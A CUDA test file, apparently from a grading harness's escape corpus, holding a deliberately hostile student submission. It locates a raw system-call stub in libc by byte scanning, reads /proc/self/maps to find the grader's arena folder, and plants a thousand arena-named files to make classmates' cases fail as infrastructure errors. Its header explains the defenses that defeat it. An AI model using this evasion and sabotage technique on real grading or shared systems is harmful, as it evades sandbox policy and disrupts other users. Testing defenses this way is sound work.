// cudagrade-expect: wrong_answer
// Threat: planting the next arena files, so that the grader's exclusive create of the next case's arena
// fails and the case, and in a class run the classmates' cases, become the machine's fault (infra_error).
// The file finds its arena's folder in /proc/self/maps (the harness maps the arena while the call runs) and
// creates a thousand arena-like names there and in the folder above, through glibc's generic system-call
// stub (see kills_grader.cu). What stops it: each student's arenas live in folders made for that student
// alone, under random names (Grader::ArenaFolders), so no name it plants is ever the next one, and nothing
// it plants reaches a classmate; and a runner that blames the machine is not believed
// (Grader::judge_runner_failure). The file computes nothing: wrong_answer, and its classmates' grades are
// unchanged (tests/escape_corpus.sh).
#include "matmul.cuh"
#include <cstdint>
#include <cstdio>

namespace {

using RawCall = long (*)(long, long, long, long, long, long, long);

RawCall find_stub() {
    static const unsigned char kStub[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
                                          0x4d, 0x89, 0xc2, 0x4d, 0x89, 0xc8, 0x4c, 0x8b, 0x4c, 0x24, 0x08, 0x0f, 0x05};
    const unsigned char* page =
        reinterpret_cast<const unsigned char*>(reinterpret_cast<uintptr_t>(stdout) & ~uintptr_t{4095});
    while (!(page[0] == 0x7f && page[1] == 'E' && page[2] == 'L' && page[3] == 'F')) page -= 4096;
    for (const unsigned char* at = page;; ++at) {
        size_t i = 0;
        while (i < sizeof kStub && at[i] == kStub[i]) ++i;
        if (i == sizeof kStub) return reinterpret_cast<RawCall>(const_cast<unsigned char*>(at));
    }
}

// Up to size - 1 bytes of the file at `path`; -1 when it cannot be opened.
long read_whole(RawCall call, const char* path, char* buffer, long size) {
    const long fd = call(257, -100, reinterpret_cast<long>(path), 0, 0, 0, 0);  // openat
    if (fd < 0) return -1;
    long total = 0;
    for (long got; total < size - 1 && (got = call(0, fd, reinterpret_cast<long>(buffer + total), size - 1 - total,
                                                   0, 0, 0)) > 0;) total += got;
    call(3, fd, 0, 0, 0, 0, 0);
    buffer[total] = '\0';
    return total;
}

// The folder of the first mapped file whose name starts with "arena-", or "" when none is mapped.
void arena_folder(RawCall call, char* folder, size_t size) {
    static char maps[1 << 16];
    folder[0] = '\0';
    const long fd = call(257, -100, reinterpret_cast<long>("/proc/self/maps"), 0, 0, 0, 0);  // openat
    if (fd < 0) return;
    long total = 0;
    for (long got; total < static_cast<long>(sizeof maps) - 1 &&
                   (got = call(0, fd, reinterpret_cast<long>(maps + total), sizeof maps - 1 - total, 0, 0, 0)) > 0;)
        total += got;
    call(3, fd, 0, 0, 0, 0, 0);
    maps[total] = '\0';
    const char* name = maps;
    while (*name != '\0' && !(name[0] == '/' && name[1] == 'a' && name[2] == 'r' && name[3] == 'e' &&
                              name[4] == 'n' && name[5] == 'a' && name[6] == '-'))
        ++name;
    if (*name == '\0') return;
    const char* start = name;
    while (start > maps && start[-1] != ' ') --start;
    const size_t length = static_cast<size_t>(name - start);
    if (length + 1 > size) return;
    for (size_t i = 0; i < length; ++i) folder[i] = start[i];
    folder[length] = '\0';
}

void plant(RawCall call, const char* folder) {
    char path[4096];
    for (unsigned i = 0; i < 1000; ++i) {
        std::snprintf(path, sizeof path, "%s/arena-%016x", folder, i);
        const long fd = call(257, -100, reinterpret_cast<long>(path), 0x41 | 0x80, 0600, 0, 0);  // O_CREAT|O_EXCL
        if (fd >= 0) call(3, fd, 0, 0, 0, 0, 0);
    }
}

}  // namespace

// A launch, as the symbol policy asks; it writes nothing.
__global__ void touch(float* C) { (void)C; }

void matmul(const float*, const float*, float* C, int, int, int) {
    touch<<<1, 1>>>(C);
    const RawCall call = find_stub();
    char folder[4096];
    arena_folder(call, folder, sizeof folder);
    if (folder[0] == '\0') return;
    plant(call, folder);
    size_t slash = 0;
    for (size_t i = 0; folder[i] != '\0'; ++i) {
        if (folder[i] == '/') slash = i;
    }
    if (slash > 0) {
        folder[slash] = '\0';
        plant(call, folder);
    }
}
